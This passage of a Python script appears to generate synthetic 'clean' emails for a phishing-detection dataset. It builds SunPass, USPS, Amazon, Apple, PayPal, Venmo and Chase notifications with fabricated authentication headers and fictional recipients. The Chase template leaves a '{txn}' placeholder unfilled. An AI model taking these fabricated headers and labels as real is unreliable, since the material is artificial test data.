calling 1-888-TOLL-FLA (1-888-865-5352).

If your account is set to automatic replenishment, please make sure your
payment method on file is current.

Thank you for using SunPass.
Florida's Turnpike Enterprise
"""
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=us-ascii"></head>
<body><div style="font-family:Arial,sans-serif;font-size:10pt;">
<p><b>SunPass Low Balance Notification</b></p>
<p>Dear PATRICIA KOWALSKI,</p>
<p>The balance on your SunPass account ending in 5531 is low.</p>
<p>Current balance: <b>$8.42</b><br>Low balance threshold: $10.00</p>
<p>To avoid toll-by-plate charges and administrative fees, please add funds by logging in to your account at <a href="https://www.sunpass.com">SunPass.com</a>, through the SunPass app, or by calling 1-888-TOLL-FLA (1-888-865-5352).</p>
<p>If your account is set to automatic replenishment, please make sure your payment method on file is current.</p>
<p>Thank you for using SunPass.<br>Florida's Turnpike Enterprise</p>
</div></body></html>
"""
    pod = "BN8PR09MB" + num("lsp-pod", 4)
    mid = f"<{pod}{hexs('lsp-mid', 24, True)}@{pod}.namprd09.prod.outlook.com>"
    head = f"""ARC-Seal: i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;
 b={sigf("lsp-as", 1)}
ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=microsoft.com;
 s=arcselector10001;
 h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-AntiSpam-MessageData-ChunkCount:X-MS-Exchange-AntiSpam-MessageData-0:X-MS-Exchange-AntiSpam-MessageData-1;
 bh={bhash("lsp")};
 b={sigf("lsp-am", 1)}
ARC-Authentication-Results: i=1; mx.microsoft.com 1; spf=pass
 smtp.mailfrom=sunpass.com; dmarc=pass action=none header.from=sunpass.com;
 dkim=pass header.d=sunpass.com; arc=none
DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d=sunpass.com;
 s=selector1;
 h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck;
 bh={bhash("lsp")};
 b={sigf("lsp-dk", 1)}
Received: from {pod}.namprd09.prod.outlook.com (2603:10b6:408:{hexs("lsp-r1", 3)}::{hexs("lsp-r2", 2)})
 by {pod}.namprd09.prod.outlook.com with Microsoft SMTP Server (version=TLS1_2,
 cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.8699.14; {fmt(t - sec(1))}
From: SunPass <noreply@sunpass.com>
To: "{who[1]}" <{who[1]}>
Subject: SunPass Low Balance Notification
Thread-Topic: SunPass Low Balance Notification
Thread-Index: AQHbup{b64("lsp-ti", 22)}==
Date: {fmt(t - sec(2))}
Message-ID: {mid}
Accept-Language: en-US
Content-Language: en-US
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
MIME-Version: 1.0"""
    add("legit-sunpass-low-balance", "clean",
        "Genuine SunPass low-balance notification from sunpass.com's Microsoft 365 tenant (SPF/DKIM/DMARC pass) with the official site and toll-free number, no embedded payment link.",
        "yahoo", who[1], t, src, auth, head, alt(plain, html, f"_000_{pod}{hexs('lsp-mid', 24, True)}{pod.lower()}namp_"))


# ---- L3. USPS Informed Delivery daily digest with mailpiece scans ----
def _l_usps_digest():
    who = DAN
    t = T("2025-09-15 13:41:07")
    dom = "email.informeddelivery.usps.com"
    mf = f"bounce-{num('lud-mf', 4)}_HTML-{num('lud-mf2', 9)}-{num('lud-mf3', 6)}-{num('lud-mf4', 7)}-{num('lud-mf5', 3)}@bounce.{dom}"
    src = Src("13.111.4.36", f"mta.{dom}", f"mta.{dom}", mf)
    auth = Auth("pass", [(dom, "200608", "pass")], "pass", "reject", dom)
    dash = sfmc_link(f"click.{dom}", "lud-c1")
    scans = [mailpiece_jpeg(i) for i in range(1, 4)]
    plain = f"""Your Daily Digest for Mon, 9/15 has 3 mailpieces and 1 package arriving soon.

COMING TO YOUR MAILBOX SOON
Images of the exterior, address side of letter-sized envelopes and mailpieces
that are processed through USPS automated equipment.

Mailpiece 1 of 3: FROM DUKE ENERGY
Mailpiece 2 of 3: FROM BLUE CROSS NC
Mailpiece 3 of 3: Sender information not available

PACKAGES
9400 1118 9922 4410 8812 37 - Expected Delivery Tuesday 09/16/2025

View your dashboard: {dash}

Learn more about Informed Delivery: https://www.usps.com/manage/informed-delivery.htm
Privacy Policy: https://about.usps.com/who/legal/privacy-policy/

Copyright 2025 USPS. All Rights Reserved.
This is an automated email; please do not reply to this message. This is not a secure inbox.
"""
    imgs = "".join(f'<tr><td style="padding:10px 0;"><img src="cid:mailpiece{i}.jpg" width="320" alt="Mailpiece {i} of 3" style="border:1px solid #ccc;"><br><span style="font-size:12px;color:#333;">Mailpiece {i} of 3</span></td></tr>' for i in range(1, 4))
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;padding:0;background:#ffffff;font-family:Helvetica,Arial,sans-serif;">
<table width="600" align="center" cellpadding="0" cellspacing="0">
<tr><td style="padding:16px 0;border-bottom:3px solid #333366;"><img src="https://informeddelivery.usps.com/box/content/images/email/usps_informed_delivery_logo.png" alt="USPS Informed Delivery" width="220"></td></tr>
<tr><td style="padding:16px 0;font-size:18px;color:#333366;">Your Daily Digest for Mon, 9/15 has 3 mailpieces and 1 package arriving soon.</td></tr>
<tr><td style="font-size:14px;font-weight:bold;color:#333366;padding-top:8px;">COMING TO YOUR MAILBOX SOON</td></tr>
<tr><td style="font-size:11px;color:#555;">Images of the exterior, address side of letter-sized envelopes and mailpieces that are processed through USPS automated equipment.</td></tr>
{imgs}
<tr><td style="font-size:14px;font-weight:bold;color:#333366;padding-top:14px;">PACKAGES</td></tr>
<tr><td style="font-size:13px;padding:6px 0;">9400 1118 9922 4410 8812 37 &middot; Expected Delivery Tuesday 09/16/2025</td></tr>
<tr><td style="padding:16px 0;"><a href="{dash}" style="background:#333366;color:#fff;padding:10px 22px;text-decoration:none;font-size:14px;">View Dashboard</a></td></tr>
<tr><td style="font-size:10px;color:#777;padding:16px 0;border-top:1px solid #ddd;"><a href="{sfmc_link(f'click.{dom}', 'lud-c2')}" style="color:#777;">Learn more about Informed Delivery</a> | <a href="{sfmc_link(f'click.{dom}', 'lud-c3')}" style="color:#777;">Privacy Policy</a> | <a href="{sfmc_link(f'click.{dom}', 'lud-c4')}" style="color:#777;">Manage Email Preferences</a><br>Copyright &copy; 2025 USPS. All Rights Reserved.<br>This is an automated email; please do not reply to this message. This is not a secure inbox.</td></tr>
</table>
<img src="https://view.{dom}/?qs={hexs('lud-open', 120)}" width="1" height="1" alt=""></body></html>
"""
    rel = Multi("related", f"----=_Part_{num('lud-b', 7)}_{num('lud-b2', 9)}.{ep(t)}390", [
        Multi("alternative", f"----=_Part_{num('lud-c', 7)}_{num('lud-c2', 9)}.{ep(t)}389", [text(plain), text(html, "html")]),
    ] + [Leaf("image/jpeg", scans[i], "base64", f'; name="mailpiece{i + 1}.jpg"', f'inline; filename="mailpiece{i + 1}.jpg"', [f"Content-ID: <mailpiece{i + 1}.jpg>"]) for i in range(3)])
    head = f"""{dkim(dom, "200608", "From:To:Subject:Date:MIME-Version:List-Unsubscribe:Content-Type:Message-ID", "lud", t)}
Received: by mta.{dom} id h{tok("lud-mta", 10, string.ascii_lowercase + string.digits)} for <{who[1]}>; {fmt(t - sec(1), "America/Chicago")}
From: "USPS Informed Delivery" <USPSInformeddelivery@{dom}>
To: <{who[1]}>
Subject: Your Daily Digest for Mon, 9/15 has 3 mailpieces and 1 package arriving soon
Date: {fmt(t - sec(2), "America/Chicago")}
MIME-Version: 1.0
List-Unsubscribe: <https://click.{dom}/subscription_center.aspx?jwt={b64('lud-jwt', 80).replace('/', '_').replace('+', '-')}>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
x-CSA-Compliance-Source: SFMC
x-job: {num("lud-job", 6)}_{num("lud-job2", 7)}
Message-ID: <{uid("lud-mid")}@atl1s07mta{num("lud-mta2", 4)}.xt.local>
Feedback-ID: {num("lud-fb", 6)}:{num("lud-fb2", 7)}:13.111.4.36:sfmktgcld
X-SFMC-Stack: 4"""
    add("legit-usps-informed-delivery", "clean",
        "Genuine USPS Informed Delivery daily digest from email.informeddelivery.usps.com (Salesforce Marketing Cloud, DMARC pass) with inline grey mailpiece scans, a tracked dashboard link and unsubscribe.",
        "icloud", who[1], t, src, auth, head, rel)


# ---- L4. Amazon shipment notice ----
def _l_amazon():
    who = GARY
    t = T("2025-02-14 17:26:51")
    sesid = f"0100019{hexs('lam-ses', 9)}-{uid('lam-u')}-000000"
    src = Src("54.240.8.92", "a8-92.smtp-out.amazonses.com", "a8-92.smtp-out.amazonses.com", f"{sesid}@amazonses.com")
    auth = Auth("pass", [("amazon.com", "yg4mwqurec7fkhzutopddd3ytuaqrvuz", "pass"), ("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", "pass")], "pass", "quarantine", "amazon.com")
    order = "113-4409172-5561823"

    def r(k: str, target: str) -> str:
        return (f"https://www.amazon.com/gp/r.html?C={tok('lam-C' + k, 13, string.ascii_uppercase + string.digits)}&amp;K={tok('lam-K', 14, string.ascii_uppercase + string.digits)}"
                f"&amp;M=urn:rtn:msg:{t.strftime('%Y%m%d%H%M%S')}{hexs('lam-M', 16)}&amp;R={tok('lam-R' + k, 12, string.ascii_uppercase + string.digits)}&amp;T=C&amp;U={target}&amp;H={tok('lam-H' + k, 24, string.ascii_uppercase + string.digits)}&amp;ref_=pe_{num('lam-ref', 8)}_{num('lam-ref2', 9)}")
    track = r("t", f"https%3A%2F%2Fwww.amazon.com%2Fprogress-tracker%2Fpackage%3ForderId%3D{order}%26shipmentId%3D{tok('lam-sh', 9)}")
    plain = f"""Amazon

Hi Gary,
Your package has shipped!

Arriving Sunday

Track package: {track.replace('&amp;', '&')}

Anker USB C Charger, 67W Nano II 3-Port
Quantity: 1

and 1 more item

Order # {order}

Shipped with Amazon Logistics. Deliver to: Gary - PHOENIX, AZ

(c)2025 Amazon.com, Inc. or its affiliates. Amazon and all related marks are trademarks of Amazon.com, Inc. or its affiliates. Amazon.com, Inc. 410 Terry Avenue N., Seattle, WA 98109.
"""
    html = f"""<!doctype html><html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"><meta name="viewport" content="width=device-width, initial-scale=1"></head>
<body style="margin:0;padding:0;background:#ffffff;">
<table role="presentation" width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table role="presentation" width="600" cellpadding="0" cellspacing="0" style="font-family:'Amazon Ember',Arial,sans-serif;">
<tr><td style="padding:16px 20px;background:#232f3e;"><a href="{r('l', 'https%3A%2F%2Fwww.amazon.com%2F')}"><img src="https://m.media-amazon.com/images/G/01/outbound/OutboundTemplates/Amazon_logo_whiterevised._BG35,47,62_.png" width="86" alt="Amazon"></a></td></tr>
<tr><td style="padding:20px;font-size:14px;color:#0f1111;">Hi Gary,<br><span style="font-size:22px;font-weight:bold;">Your package has shipped!</span></td></tr>
<tr><td style="padding:0 20px;font-size:18px;color:#067d62;font-weight:bold;">Arriving Sunday</td></tr>
<tr><td style="padding:16px 20px;"><a href="{track}" style="display:inline-block;background:#ffd814;border-radius:20px;padding:10px 40px;color:#0f1111;text-decoration:none;font-size:14px;">Track package</a></td></tr>
<tr><td style="padding:10px 20px;font-size:14px;color:#0f1111;border-top:1px solid #ddd;"><a href="{r('p', 'https%3A%2F%2Fwww.amazon.com%2Fdp%2FB0B2MLSM1H')}" style="color:#007185;text-decoration:none;">Anker USB C Charger, 67W Nano II 3-Port</a><br>Quantity: 1<br><br>and 1 more item</td></tr>
<tr><td style="padding:10px 20px;font-size:13px;color:#565959;">Order # {order}<br>Shipped with Amazon Logistics. Deliver to: Gary - PHOENIX, AZ</td></tr>
<tr><td style="padding:20px;font-size:11px;color:#565959;border-top:1px solid #ddd;">&copy;2025 Amazon.com, Inc. or its affiliates. Amazon and all related marks are trademarks of Amazon.com, Inc. or its affiliates. Amazon.com, Inc. 410 Terry Avenue N., Seattle, WA 98109.<br><br>Reference: {num('lam-refid', 9)}</td></tr>
</table></td></tr></table>
<img width="1" height="1" src="https://www.amazon.com/gp/r.html?C={tok('lam-Co', 13, string.ascii_uppercase + string.digits)}&amp;M=urn:rtn:msg:{t.strftime('%Y%m%d%H%M%S')}{hexs('lam-M', 16)}&amp;R={tok('lam-Ro', 12, string.ascii_uppercase + string.digits)}&amp;T=O&amp;U=https%3A%2F%2Fimages-na.ssl-images-amazon.com%2Fimages%2FG%2F01%2Fnav%2Ftransp.gif" alt=""></body></html>
"""
    h = "Date:From:To:Message-ID:Subject:MIME-Version:Content-Type"
    bnd = f"----=_Part_{num('lam-b', 7)}_{num('lam-b2', 9)}.{ep(t) - 1}417"
    head = f"""{dkim("amazon.com", "yg4mwqurec7fkhzutopddd3ytuaqrvuz", h, "lam1", t)}
{dkim("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", h + ":Feedback-ID", "lam2", t)}
Date: {fmt(t - sec(1))}
From: "Amazon.com" <shipment-tracking@amazon.com>
To: {who[1]}
Message-ID: <{sesid}@email.amazonses.com>
Subject: Shipped: "Anker USB C Charger, 67W Nano..." and 1 more item
MIME-Version: 1.0
X-AMAZON-MAIL-RELAY-TYPE: notification
Bounces-to: {t.strftime('%Y%m%d%H%M%S')}{hexs("lam-bt", 16)}@bounces.amazon.com
X-AMAZON-RTE-VERSION: 2.0
X-AMAZON-METADATA: CA=C{tok('lam-md', 12, string.ascii_uppercase + string.digits)}-CU=A{tok('lam-cu', 12, string.ascii_uppercase + string.digits)}
X-Original-MessageID: <urn.rtn.msg.{t.strftime('%Y%m%d%H%M%S')}{hexs('lam-M', 16)}@1739553{num('lam-om', 6)}.>
Feedback-ID: ::1.us-east-1.{b64("lam-fb", 43)}=:AmazonSES
X-SES-Outgoing: {t.strftime('%Y.%m.%d')}-54.240.8.92"""
    add("legit-amazon-shipped", "clean",
        "Genuine Amazon 'Shipped' notice from shipment-tracking@amazon.com via Amazon SES (amazon.com DKIM, DMARC pass) with Amazon's own gp/r.html click redirects and order details.",
        "outlook", who[1], t, src, auth, head, alt(plain, html, bnd))


# ---- L5. Apple receipt for iCloud+ ----
def _l_apple():
    who = TESSA
    t = T("2025-04-02 07:48:33")
    src = Src("17.179.253.34", "rn-mailsvcp-mx-lapp03.apple.com", "rn-mailsvcp-mx-lapp03.apple.com", "no_reply@email.apple.com")
    auth = Auth("pass", [("email.apple.com", "email0517", "pass")], "pass", "reject", "email.apple.com")
    oid = "MT" + tok("lap-o", 8, string.ascii_uppercase + string.digits)
    plain = f"""Apple

Receipt

APPLE ACCOUNT
tessa.huang@icloud.com

DATE
Apr 1, 2025

ORDER ID
{oid}

DOCUMENT NO.
{num('lap-doc', 12)}

BILLED TO
Visa .... 7719
Tessa Huang
San Jose, CA 95129

iCloud+
iCloud+ with 200 GB (Monthly)
Renews May 1, 2025                                  $2.99

Subtotal                                            $2.99
Tax                                                 $0.28
TOTAL                                               $3.27

Report a Problem: https://reportaproblem.apple.com/

Learn how to manage your password preferences for iTunes, Apple Books and App Store purchases at https://support.apple.com/HT204030.

Apple Account | Terms of Sale | Privacy Policy
Copyright (c) 2025 Apple Inc. One Apple Park Way, Cupertino, CA 95014, United States. All rights reserved.
"""
    html = f"""<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"><title>Your receipt from Apple.</title></head>
<body style="margin:0;padding:0;background:#ffffff;font-family:-apple-system,'SF Pro Text','Helvetica Neue',Helvetica,Arial,sans-serif;color:#1d1d1f;">
<table role="presentation" width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table role="presentation" width="640" cellpadding="0" cellspacing="0">
<tr><td style="padding:32px 20px 8px 20px;"><img src="https://www.apple.com/v/receipt/images/apple_logo.png" width="24" alt="Apple"></td></tr>
<tr><td style="padding:8px 20px;font-size:32px;font-weight:600;">Receipt</td></tr>
<tr><td style="padding:12px 20px;"><table width="100%" cellpadding="0" cellspacing="0" style="background:#f5f5f7;border-radius:10px;font-size:11px;color:#6e6e73;">
<tr><td style="padding:14px;">APPLE ACCOUNT<br><span style="color:#1d1d1f;font-size:12px;">tessa.huang@icloud.com</span></td><td style="padding:14px;">DATE<br><span style="color:#1d1d1f;font-size:12px;">Apr 1, 2025</span></td><td style="padding:14px;" rowspan="2">BILLED TO<br><span style="color:#1d1d1f;font-size:12px;">Visa .... 7719<br>Tessa Huang<br>San Jose, CA 95129</span></td></tr>
<tr><td style="padding:14px;">ORDER ID<br><span style="color:#1d1d1f;font-size:12px;"><a href="https://reportaproblem.apple.com/?s=6&amp;oid={oid}" style="color:#0066cc;">{oid}</a></span></td><td style="padding:14px;">DOCUMENT NO.<br><span style="color:#1d1d1f;font-size:12px;">{num('lap-doc', 12)}</span></td></tr></table></td></tr>
<tr><td style="padding:16px 20px;font-size:14px;"><b>iCloud+</b><br><table width="100%" cellpadding="0" cellspacing="0" style="font-size:12px;"><tr><td style="padding:8px 0;">iCloud+ with 200 GB (Monthly)<br><span style="color:#6e6e73;">Renews May 1, 2025</span><br><a href="https://apps.apple.com/account/subscriptions" style="color:#0066cc;">Manage</a> | <a href="https://reportaproblem.apple.com/?s=6&amp;oid={oid}" style="color:#0066cc;">Report a Problem</a></td><td align="right" style="font-weight:600;">$2.99</td></tr></table></td></tr>
<tr><td style="padding:0 20px;"><table width="100%" cellpadding="4" cellspacing="0" style="font-size:12px;border-top:1px solid #d2d2d7;"><tr><td>Subtotal</td><td align="right">$2.99</td></tr><tr><td>Tax</td><td align="right">$0.28</td></tr><tr><td style="font-weight:600;border-top:1px solid #d2d2d7;">TOTAL</td><td align="right" style="font-weight:600;border-top:1px solid #d2d2d7;">$3.27</td></tr></table></td></tr>
<tr><td style="padding:30px 20px;font-size:11px;color:#6e6e73;">Learn how to <a href="https://support.apple.com/HT204030" style="color:#0066cc;">manage your password preferences</a> for iTunes, Apple Books and App Store purchases.<br><br><a href="https://account.apple.com/" style="color:#0066cc;">Apple Account</a> &bull; <a href="https://www.apple.com/legal/internet-services/itunes/us/terms.html" style="color:#0066cc;">Terms of Sale</a> &bull; <a href="https://www.apple.com/legal/privacy/" style="color:#0066cc;">Privacy Policy</a><br><br>Copyright &copy; 2025 Apple Inc. One Apple Park Way, Cupertino, CA 95014, United States. All rights reserved.</td></tr>
</table></td></tr></table></body></html>
"""
    bnd = f"----=_Part_{num('lap-b', 7)}_{num('lap-b2', 9)}.{ep(t) - 2}604"
    head = f"""{dkim("email.apple.com", "email0517", "Date:From:To:Message-ID:Subject:MIME-Version:Content-Type", "lap", t)}
Received: from rn-mailsvcp-mmp-lapp02.rno.apple.com (rn-mailsvcp-mmp-lapp02.rno.apple.com [17.179.253.{num("lap-i", 2)}])
 by rn-mailsvcp-mx-lapp03.apple.com (Oracle Communications Messaging Server 8.1.0.26.20240226 64bit (built Feb 26 2024))
 with ESMTPS id <0S{tok("lap-oc", 10, string.ascii_uppercase + string.digits)}00@rn-mailsvcp-mx-lapp03.apple.com> for {who[1]};
 {fmt(t - sec(1), "America/Los_Angeles")}
Date: {fmt(t - sec(2), "America/Los_Angeles")}
From: Apple <no_reply@email.apple.com>
To: {who[1]}
Message-ID: <{uid("lap-mid", True)}@email.apple.com>
Subject: Your receipt from Apple.
MIME-Version: 1.0
X-Email-Type-Id: 1000002
x-apple-notification-id: {uid("lap-nid")}
X-Proofpoint-ORIG-GUID: {tok("lap-pp", 32)}
X-Proofpoint-GUID: {tok("lap-pp", 32)}"""
    add("legit-apple-icloud-receipt", "clean",
        "Genuine Apple receipt for an iCloud+ 200 GB renewal from no_reply@email.apple.com on Apple's own mail servers (DKIM/DMARC pass), order details and links only to apple.com properties.",
        "icloud", who[1], t, src, auth, head, alt(plain, html, bnd))


# ---- L6. PayPal payment receipt ----
def _l_paypal():
    who = HAROLD
    t = T("2025-11-21 19:33:04")
    src = Src("173.0.84.225", "mx1.slc.paypal.com", "mx1.slc.paypal.com", "service@paypal.com")
    auth = Auth("pass", [("paypal.com", "pp-dkim1", "pass")], "pass", "reject", "paypal.com")
    txn = tok("lpp-tx", 17, string.ascii_uppercase + string.digits)
    plain = f"""Hello, Harold Greer

You sent a payment of $64.18 USD to Riverbend Garden Supply

It may take a few moments for this transaction to appear in your account.

Merchant
Riverbend Garden Supply
orders@riverbendgardensupply.com

Instructions to merchant
You haven't entered any instructions.

Transaction ID
{txn}

Transaction date
November 21, 2025

Purchase details
Amount paid: $64.18 USD
Funding source: Visa Credit Card x-5521

Help & Contact | Security | Apps
PayPal is committed to preventing fraudulent emails. Emails from PayPal will always contain your full name.
Please don't reply to this email. To get in touch with us, click Help & Contact.
(c) 1999-2025 PayPal, Inc. All rights reserved. PayPal is located at 2211 N. First St., San Jose, CA 95131.
PayPal RT000186:en_US(en-US):1.5.0:{hexs("lpp-rt", 13)}
"""
    html = f"""<!DOCTYPE html><html lang="en"><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"><meta name="viewport" content="width=device-width, initial-scale=1"><title>PayPal</title></head>
<body style="margin:0;padding:0;background:#f5f7fa;">
<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0" style="background:#f5f7fa;"><tr><td align="center" style="padding:20px 0;">
<table role="presentation" width="600" cellpadding="0" cellspacing="0" border="0" style="background:#ffffff;border-radius:16px;font-family:'Helvetica Neue',Arial,sans-serif;color:#001435;">
<tr><td style="padding:28px 40px 0 40px;"><img src="https://www.paypalobjects.com/digitalassets/c/system-triggered-email/n/layout/images/paypal-rebranding/pp-logo-in-circle-2x.png" width="48" height="48" alt="PayPal"></td></tr>
<tr><td style="padding:20px 40px 0 40px;font-size:14px;">Hello, Harold Greer</td></tr>
<tr><td style="padding:8px 40px 0 40px;font-size:26px;line-height:34px;">You sent a payment of $64.18 USD to Riverbend Garden Supply</td></tr>
<tr><td style="padding:12px 40px 0 40px;font-size:14px;color:#545d68;">It may take a few moments for this transaction to appear in your account.</td></tr>
<tr><td style="padding:20px 40px 0 40px;font-size:14px;"><table width="100%" cellpadding="0" cellspacing="0" style="font-size:14px;"><tr><td valign="top" style="padding-bottom:14px;"><b>Merchant</b><br>Riverbend Garden Supply<br>orders@riverbendgardensupply.com</td><td valign="top"><b>Instructions to merchant</b><br>You haven't entered any instructions.</td></tr>
<tr><td valign="top"><b>Transaction ID</b><br><a href="https://www.paypal.com/myaccount/activity/payment/{txn}" style="color:#0070e0;">{txn}</a></td><td valign="top"><b>Transaction date</b><br>November 21, 2025</td></tr></table></td></tr>
<tr><td style="padding:20px 40px 0 40px;font-size:14px;"><b>Purchase details</b><br>Amount paid: $64.18 USD<br>Funding source: Visa Credit Card x-5521</td></tr>
<tr><td style="padding:32px 40px;font-size:12px;color:#545d68;"><a href="https://www.paypal.com/us/cshelp/personal" style="color:#0070e0;">Help &amp; Contact</a> | <a href="https://www.paypal.com/us/security" style="color:#0070e0;">Security</a> | <a href="https://www.paypal.com/us/home" style="color:#0070e0;">Apps</a><br><br>PayPal is committed to preventing fraudulent emails. Emails from PayPal will always contain your full name. <a href="https://www.paypal.com/us/security/learn-about-fake-messages" style="color:#0070e0;">Learn to identify phishing</a><br><br>Please don't reply to this email. To get in touch with us, click <a href="https://www.paypal.com/us/cshelp/personal" style="color:#0070e0;">Help &amp; Contact</a>.<br><br>&copy; 1999-2025 PayPal, Inc. All rights reserved. PayPal is located at 2211 N. First St., San Jose, CA 95131.<br><br>PayPal RT000186:en_US(en-US):1.5.0:{hexs("lpp-rt", 13)}</td></tr>
</table></td></tr></table>
<img src="https://t.paypal.com/ts?v=1.0.0&amp;e=Payment_Sent_Notification&amp;tracking_id={hexs('lpp-trk', 13)}" width="1" height="1" alt="" border="0"></body></html>
"""
    bnd = "----=_Part_" + num("lpp-b", 7) + "_" + num("lpp-b2", 9) + "." + str(ep(t)) + "618"
    head = f"""{dkim("paypal.com", "pp-dkim1", "Content-Type:MIME-Version:Subject:To:From:Date:Message-ID", "lpp", t, extra="i=@paypal.com; q=dns/txt")}
Received: from ccg01mail02.ccg01.slc.paypalinc.com (ccg01mail02.ccg01.slc.paypalinc.com [10.140.{num("lpp-i1", 2)}.{num("lpp-i2", 2)}])
\tby mx1.slc.paypal.com (Postfix) with ESMTP id {hexs("lpp-pf", 11, True)}
\tfor <{who[1]}>; {fmt(t - sec(1), "America/Los_Angeles", comment="PST")}
Date: {fmt(t - sec(2), "America/Los_Angeles")}
Message-ID: <{hexs("lpp-m1", 13)}.{hexs("lpp-m2", 8)}@ccg01mail02>
From: "service@paypal.com" <service@paypal.com>
To: Harold Greer <{who[1]}>
Subject: Receipt for your payment to Riverbend Garden Supply
MIME-Version: 1.0
X-MaxCode-Template: PPC001017
X-Email-Type-Id: PPC001017
X-PP-REQUESTED-TIME: {ep(t) - 3}{num("lpp-rq", 3)}
X-PP-Email-transmission-Id: {uid("lpp-tx2")}
PP-Correlation-Id: {hexs("lpp-corr", 13)}
X-XPT-XSL-Name: email_pimp/default/en_US/transaction/ExpressCheckoutSender.xsl"""
    add("legit-paypal-payment-receipt", "clean",
        "Genuine PayPal receipt for a $64.18 payment to a garden-supply merchant from service@paypal.com (SPF/DKIM/DMARC pass), with the user's full name and links only to paypal.com.",
        "gmail", who[1], t, src, auth, head, alt(plain, html, bnd))


# ---- L7. Venmo payment received ----
def _l_venmo():
    who = JAYLEN
    t = T("2025-10-11 02:14:58")
    mf = f"bounces+2931187-{hexs('lvn-mf', 4)}-jaylen.brooks=icloud.com@email.venmo.com"
    src = Src("168.245.92.17", "o1.ptr5231.email.venmo.com", "o1.ptr5231.email.venmo.com", mf)
    auth = Auth("pass", [("venmo.com", "s1", "pass")], "pass", "reject", "venmo.com")
    plain = """Marcus Tate paid you $42.50

"Pizza + wings Friday 🍕"

Transfer Date and Amount:
Oct 10, 2025 PDT · $42.50

The money is available in your Venmo account.

See transaction: https://venmo.com/account/notification?source=email

For any issues, including the recipient not receiving funds, please contact us at help.venmo.com or call 1-855-812-4430.

Venmo is a service of PayPal, Inc., a licensed provider of money transfer services. Address: 2211 North First Street, San Jose, CA 95131
"""
    html = """<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"></head>
<body style="margin:0;padding:0;background:#ffffff;font-family:'Helvetica Neue',Helvetica,Arial,sans-serif;">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="480" cellpadding="0" cellspacing="0">
<tr><td style="padding:24px 20px 10px 20px;"><img src="https://s3.amazonaws.com/venmo/venmo_logo_blue.png" width="100" alt="venmo"></td></tr>
<tr><td style="padding:10px 20px;font-size:18px;color:#2f3033;"><b>Marcus Tate</b> paid you <b style="color:#148572;">$42.50</b></td></tr>
<tr><td style="padding:0 20px 14px 20px;font-size:15px;color:#6b6e76;">&quot;Pizza + wings Friday &#127829;&quot;</td></tr>
<tr><td style="padding:0 20px;"><a href="https://venmo.com/account/notification?source=email" style="display:inline-block;background:#008cff;color:#fff;padding:10px 22px;border-radius:20px;text-decoration:none;font-size:14px;">See transaction</a></td></tr>
<tr><td style="padding:18px 20px;font-size:13px;color:#2f3033;"><b>Transfer Date and Amount:</b><br>Oct 10, 2025 PDT &middot; $42.50<br><br>The money is available in your Venmo account.</td></tr>
<tr><td style="padding:18px 20px;font-size:11px;color:#9a9da4;border-top:1px solid #eee;">For any issues, including the recipient not receiving funds, please contact us at <a href="https://help.venmo.com/" style="color:#008cff;">help.venmo.com</a> or call 1-855-812-4430.<br><br>Venmo is a service of PayPal, Inc., a licensed provider of money transfer services. Address: 2211 North First Street, San Jose, CA 95131</td></tr>
</table></td></tr></table>
<img src="https://email.venmo.com/wf/open?upn=u001.""" + b64("lvn-open", 100) + """" alt="" width="1" height="1" border="0"></body></html>
"""
    hh = "content-type:from:mime-version:subject:to:cc:content-type:from:subject:to"
    geo = "geopod-ismtpd-" + str(int(hexs("lvn-geo", 2), 16) % 30 + 1)
    mid = b64("lvn-mid", 22).replace("/", "_").replace("+", "-")
    bnd = hexs("lvn-b", 60)
    head = f"""{dkim("venmo.com", "s1", hh, "lvn1", t)}
Received: by recvd-7d9cc8b8f5-k2qlm with SMTP id recvd-7d9cc8b8f5-k2qlm-1-68E9BDB2-1F
\t{t.strftime('%Y-%m-%d %H:%M:%S')}.229871442 +0000 UTC m=+1882145.119238001
Received: from MjkzMTE4Nw (unknown)
\tby {geo} (SG) with HTTP
\tid {mid}
\t{t.strftime('%a, %d %b %Y %H:%M:%S')}.101 +0000 (UTC)
Date: {t.strftime('%a, %d %b %Y %H:%M:%S')} +0000 (UTC)
From: Venmo <venmo@venmo.com>
Mime-Version: 1.0
Message-ID: <{mid}@{geo}>
Subject: Marcus Tate paid you $42.50
To: {who[1]}
X-SG-EID: u001.{b64("lvn-eid", 140)}
X-Entity-ID: u001.{b64("lvn-ent", 22)}=="""
    add("legit-venmo-payment-received", "clean",
        "Genuine Venmo 'Marcus Tate paid you $42.50' notification from venmo@venmo.com through Venmo's dedicated SendGrid IP (venmo.com DKIM, DMARC pass), friend's memo with emoji, links to venmo.com.",
        "icloud", who[1], t, src, auth, head, Multi("alternative", bnd, [text(plain), text(html, "html")]))


# ---- L8. Chase: you received money with Zelle ----
def _l_chase():
    who = FRANK
    t = T("2025-04-18 23:05:17")
    src = Src("159.53.110.21", "mail21.chase.com", "mail21.chase.com", "no.reply.alerts@chase.com")
    auth = Auth("pass", [("chase.com", "d4815", "pass")], "pass", "reject", "chase.com")
    plain = """Chase

You received money with Zelle(R)

Maria Delgado sent you money

Amount            $150.00
Memo              Dad's birthday dinner
Sent on           Apr 18, 2025
Transaction ID    26840{txn}

The money is now in your account ending in (...6204).

You're receiving this alert because you're enrolled in Zelle(R) through Chase.
Securely access your accounts at chase.com. Please don't reply to this
automatically generated service email.

Privacy Notice | Security Center
